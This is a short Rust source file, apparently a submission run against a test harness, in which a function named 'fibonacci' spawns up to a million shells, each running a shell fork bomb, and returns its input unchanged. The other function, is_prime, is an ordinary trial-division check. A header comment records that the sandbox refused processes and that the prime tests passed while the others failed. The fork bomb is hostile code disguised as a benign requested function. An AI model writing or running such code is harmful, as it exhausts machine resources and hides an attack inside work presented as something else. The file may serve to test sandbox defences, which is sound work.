//! Starts shells that start shells, without end. Processes are refused, so `expect` panics at the first one; were
//! they allowed, it would panic as soon as the limit on processes is reached. 3 passed (the prime tests), 3 failed.

use std::process::Command;

pub fn fibonacci(n: u32) -> u64 {
    let mut children = Vec::new();
    while children.len() < 1_000_000 {
        let child = Command::new("/bin/sh")
            .args(["-c", "bomb() { bomb | bomb & }; bomb"])
            .spawn();
        children.push(child.expect("a shell starts"));
    }
    u64::from(n)
}

pub fn is_prime(n: u64) -> bool {
    if n < 2 {
        return false;
    }
    let mut divisor = 2;
    while divisor * divisor <= n {
        if n % divisor == 0 {
            return false;
        }
        divisor += 1;
    }
    true
}
